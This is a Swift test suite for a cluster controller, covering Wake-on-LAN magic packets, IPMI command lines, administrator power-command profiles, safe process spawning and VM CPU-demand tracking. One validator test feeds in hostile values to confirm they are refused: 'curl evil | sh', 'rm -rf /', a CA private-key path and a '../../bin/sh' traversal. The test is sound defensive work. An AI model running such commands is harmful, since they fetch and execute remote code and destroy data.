import AgentAPI
import ClusterModel
@testable import Controller
import Foundation
import Planner
import Spawn
import Testing

@Suite struct PowerDriverTests {
    func host(_ driver: String, _ options: [String: String]) -> ClusterManifest.Host {
        ClusterManifest.Host(name: "h7", agent: "https://10.0.0.7:7443", power: .init(driver: driver, options: options))
    }

    /// A real magic packet over UDP on loopback: 6 × 0xff, then the MAC 16 times.
    @Test func wakeOnLANSendsTheMagicPacket() throws {
        let fd = socket(AF_INET, Int32(SOCK_DGRAM.rawValue), 0)
        #expect(fd >= 0)
        defer { close(fd) }
        var addr = sockaddr_in()
        addr.sin_family = sa_family_t(AF_INET)
        addr.sin_port = 0
        inet_pton(AF_INET, "127.0.0.1", &addr.sin_addr)
        var len = socklen_t(MemoryLayout<sockaddr_in>.size)
        let bound = withUnsafeMutablePointer(to: &addr) { p in
            p.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(fd, $0, len) == 0 && getsockname(fd, $0, &len) == 0 }
        }
        #expect(bound)
        let port = UInt16(bigEndian: addr.sin_port)
        try PowerDrivers.wake(mac: "52:54:00:ab:cd:ef", broadcast: "127.0.0.1", port: port)
        var buf = [UInt8](repeating: 0, count: 256)
        let n = recv(fd, &buf, buf.count, 0)
        #expect(n == 102)
        #expect(Array(buf[0..<6]) == [UInt8](repeating: 0xff, count: 6))
        for k in 0..<16 { #expect(Array(buf[(6 + 6 * k)..<(12 + 6 * k)]) == [0x52, 0x54, 0x00, 0xab, 0xcd, 0xef]) }
        #expect(throws: (any Error).self) { try PowerDrivers.magicPacket(mac: "52:54:00") }
    }

    @Test func ipmiCommandLines() throws {
        let config = PowerConfig(credentials: ["bmc": "/etc/vsphere/bmc.pw"])
        let h = host("ipmi", ["address": "10.1.1.7", "username": "admin", "credential": "bmc"])
        let on = try #require(try PowerDrivers.command(true, h, config))
        #expect(on.0 == "ipmitool")
        #expect(on.1 == ["-I", "lanplus", "-H", "10.1.1.7", "-U", "admin", "-f", "/etc/vsphere/bmc.pw", "chassis", "power", "on"])
        let off = try #require(try PowerDrivers.command(false, host("ipmi", ["address": "10.1.1.7", "interface": "lan"]), config))
        #expect(off.1 == ["-I", "lan", "-H", "10.1.1.7", "-E", "chassis", "power", "soft"], "ACPI soft-off; the password from IPMI_PASSWORD")
        #expect(PowerDrivers.can(true, host("ipmi", ["address": "10.1.1.7", "credential": "other"]), config) == "no credential other in the controller's power configuration")
    }

    @Test func whatEachDriverCanDo() {
        let config = PowerConfig(commands: ["pdu": .init(on: ["/usr/local/sbin/pdu", "on"])])
        #expect(PowerDrivers.can(true, host("wol", ["mac": "52:54:00:ab:cd:ef"]), config) == nil)
        #expect(PowerDrivers.can(false, host("wol", ["mac": "52:54:00:ab:cd:ef"]), config)?.contains("cannot power a host off") == true)
        #expect(PowerDrivers.can(false, host("wol", ["mac": "52:54:00:ab:cd:ef", "off": "pdu"]), config) == "command profile pdu has no off command")
        #expect(PowerDrivers.can(true, host("command", ["profile": "pdu"]), config) == nil)
        #expect(PowerDrivers.can(true, host("command", ["profile": "nope"]), config) == "no command profile nope in the controller's power configuration")
        #expect(PowerDrivers.can(true, host("none", [:]), config) != nil)
        #expect(PowerDrivers.can(true, ClusterManifest.Host(name: "x"), config) == "no power driver")
    }

    /// The administrator's programs run without a shell, with the host's name in the environment only.
    @Test func commandDriverRunsTheAdministratorsProgram() async throws {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("power-\(getpid())")
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: dir) }
        let log = dir.appendingPathComponent("log").path
        let script = dir.appendingPathComponent("switch").path
        try "#!/bin/sh\necho \"$1 $VSPHERE_POWER_HOST $VSPHERE_POWER_AGENT_URL\" >> \(log)\n[ \"$1\" = on ]\n".write(toFile: script, atomically: true, encoding: .utf8)
        chmod(script, 0o755)
        let config = PowerConfig(commands: ["lab": .init(on: [script, "on"], off: [script, "off"])])
        let h = host("command", ["profile": "lab"])
        _ = try await PowerDrivers.run(true, h, config)
        #expect(try String(contentsOfFile: log, encoding: .utf8) == "on h7 https://10.0.0.7:7443\n")
        await #expect(throws: Spawn.Failure.self) { _ = try await PowerDrivers.run(false, h, config) }
    }

    /// A manifest can no longer carry programs or files for the controller: each old option is refused
    /// with the reason, naming its field.
    @Test func manifestsCarryNoCommandsNorFiles() {
        func problems(_ power: ClusterManifest.Power) -> [String] {
            ClusterManifest(hosts: [ClusterManifest.Host(name: "h1", power: power)]).validate().map(\.description)
        }
        let shell = problems(.init(driver: "command", options: ["on": "curl evil | sh", "off": "rm -rf /"]))
        #expect(shell.contains { $0.hasPrefix("hosts[0].power.on: a manifest carries no commands") }, "\(shell)")
        #expect(shell.contains { $0.hasPrefix("hosts[0].power.off: a manifest carries no commands") }, "\(shell)")
        #expect(shell.contains("hosts[0].power.profile: is required by the command driver"), "\(shell)")
        let file = problems(.init(driver: "ipmi", options: ["address": "10.0.0.9", "passwordFile": "/var/lib/vsphere/controller/pki/ca.key"]))
        #expect(file.contains { $0.hasPrefix("hosts[0].power.passwordFile: a manifest names no file the controller reads") }, "\(file)")
        let script = problems(.init(driver: "testbed", options: ["host": "h1", "script": "/tmp/x.sh"]))
        #expect(script.contains { $0.hasPrefix("hosts[0].power.script: the testbed script is the controller's") }, "\(script)")
        #expect(problems(.init(driver: "command", options: ["profile": "../../bin/sh"])).contains { $0.hasPrefix("hosts[0].power.profile: must name an entry") })
        #expect(problems(.init(driver: "command", options: ["profile": "pdu"])).isEmpty)
    }

    /// The configuration runs as the controller: it must be the administrator's, and say only absolute paths.
    @Test func powerConfigurationMustBeTheAdministrators() throws {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("power-config-\(getpid())")
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: dir) }
        let path = dir.appendingPathComponent("power.json").path
        func load(_ text: String, mode: mode_t = 0o600, owner: uid_t? = nil) -> String? {
            unlink(path)
            try? text.write(toFile: path, atomically: false, encoding: .utf8)
            chmod(path, mode)
            if let owner { chown(path, owner, owner) }
            do {
                _ = try PowerConfig.load(path: path, required: true)
                return nil
            } catch {
                return error.description
            }
        }
        #expect(load(#"{"commands":{"pdu":{"on":["/usr/local/sbin/pdu","on"]}},"credentials":{"bmc":"/etc/vsphere/bmc.pw"}}"#) == nil)
        #expect(load("{}", mode: 0o666)?.contains("writable by group or others") == true)
        #expect(load("{}", owner: 65534)?.contains("owned by uid 65534") == true)
        #expect(load(#"{"commands":{"pdu":{"on":["pdu","on"]}}}"#)?.contains("commands.pdu.on: must start with an absolute program path") == true)
        #expect(load(#"{"credentials":{"bmc":"bmc.pw"}}"#)?.contains("credentials.bmc: must be an absolute path") == true)
        #expect(load(#"{"testbedScript":"/x","shell":"/bin/sh"}"#)?.contains("shell: unknown field") == true)
        #expect(try PowerConfig.load(path: dir.appendingPathComponent("absent.json").path, required: false) == PowerConfig())
        #expect(throws: PowerConfig.Problem.self) { try PowerConfig.load(path: dir.appendingPathComponent("absent.json").path, required: true) }
    }

    /// A command that leaves a background process holding its output returns when it exits; one that
    /// hangs is killed at its deadline.
    @Test func spawnNeverWaitsForeverOnAChild() throws {
        let start = Date()
        let out = try Spawn.run("/bin/sh", ["-c", "sleep 30 & echo started $!; exit 0"])
        #expect(out.contains("started"))
        #expect(Date().timeIntervalSince(start) < 10, "returned when the shell exited, not when its background sleep did")
        if let pid = out.split(separator: " ").last.flatMap({ Int32($0.trimmingCharacters(in: .whitespacesAndNewlines)) }) { kill(pid, SIGKILL) }
        let t = Date()
        #expect(throws: Spawn.Failure.self) { _ = try Spawn.run("/bin/sh", ["-c", "exec sleep 30"], timeoutSeconds: 1) }
        #expect(Date().timeIntervalSince(t) < 10)
    }

    /// A child gets stdin, stdout and stderr only: nothing else of ours (a daemon it starts would keep
    /// our listening sockets and pipes).
    @Test func childrenGetNoOtherDescriptors() throws {
        #expect(Spawn.addCloseFrom != nil, "glibc has posix_spawn_file_actions_addclosefrom_np")
        let fd = open("/dev/null", O_RDONLY)  // not close-on-exec
        defer { close(fd) }
        let out = try Spawn.run("/bin/sh", ["-c", "ls /proc/self/fd"])
        let fds = Set(out.split(separator: "\n").compactMap { Int($0) })
        #expect(fds.isSubset(of: [0, 1, 2, 3]), "\(fds)")  // 3: ls's own directory handle
        #expect(!fds.contains(Int(fd)) || fd == 3)
    }
}

@Suite struct DemandTrackerTests {
    func stats(_ name: String, cpuNs: Int64, rssKiB: Int64 = 65536, state: String = "running") -> VMStats {
        VMStats(name: name, state: state, cpuTimeNs: cpuNs, vcpus: 1, memoryKiB: 131072, raw: ["balloon.rss": .int(rssKiB)])
    }

    @Test func cpuDemandFromCPUTimeGrowth() {
        let t = DemandTracker()
        t.record(host: "h1", stats: [stats("a", cpuNs: 0)], nowMs: 0, windowSeconds: 0.001)
        #expect(t.demand(coreMHz: ["h1": 2000])["a"]?.cpuMHz == 0, "one observation: no rate yet")
        // Half a core for 2 s.
        t.record(host: "h1", stats: [stats("a", cpuNs: 1_000_000_000)], nowMs: 2000, windowSeconds: 0.001)
        let d = t.demand(coreMHz: ["h1": 2000])["a"]
        #expect(abs((d?.cpuMHz ?? 0) - 1000) < 1)
        #expect(d?.memoryMiB == 64)
        // Migrated: on another host the counter starts over; a new baseline, not a negative rate.
        t.record(host: "h2", stats: [stats("a", cpuNs: 5)], nowMs: 3000, windowSeconds: 0.001)
        #expect(t.demand(coreMHz: [:])["a"]?.cpuMHz == 0)
        // Smoothing: a jump moves the estimate part of the way.
        let s = DemandTracker()
        s.record(host: "h1", stats: [stats("b", cpuNs: 0)], nowMs: 0, windowSeconds: 10)
        s.record(host: "h1", stats: [stats("b", cpuNs: 0)], nowMs: 1000, windowSeconds: 10)
        s.record(host: "h1", stats: [stats("b", cpuNs: 1_000_000_000)], nowMs: 2000, windowSeconds: 10)
        let b = s.demand(coreMHz: ["h1": 1000])["b"]!.cpuMHz
        #expect(b > 50 && b < 200, "\(b)")
        // Gone from the host: forgotten.
        s.record(host: "h1", stats: [], nowMs: 3000, windowSeconds: 10)
        #expect(s.demand(coreMHz: [:])["b"] == nil)
    }

    @Test func historyKeepsTheWindow() {
        let t = DemandTracker()
        for i in 0..<100 { t.addSample(UtilizationSample(timeMs: Int64(i) * 1000, loads: []), keepSeconds: 10) }
        let s = t.samples()
        #expect(s.last?.timeMs == 99_000)
        #expect((s.first?.timeMs ?? 0) <= 89_000 && (s.first?.timeMs ?? 0) >= 88_000, "one sample older than the window stays: the window is covered")
    }
}
